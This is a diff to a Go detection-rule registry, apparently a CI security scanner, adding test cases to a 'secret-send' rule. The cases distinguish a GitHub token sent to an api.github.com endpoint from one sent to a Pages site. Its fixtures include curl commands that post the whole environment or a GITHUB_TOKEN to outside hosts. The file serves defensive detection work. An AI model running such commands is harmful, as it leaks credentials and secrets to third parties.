@@ -449,6 +449,10 @@ var registry = []Rule{
 		}},
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
+			// A known vendor's name on another domain is not its host: GitHub's
+			// token to anyone's Pages site leaves; to GitHub's API it is its use.
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x-dev.github.io/v", 6, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/x/y/releases", 0, true},
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			{"x.sh", "env | xargs -I{} curl https://x.invalid/{}", 0, false},
 			// What a secret store prints is the secret: Vault, AWS, Google's
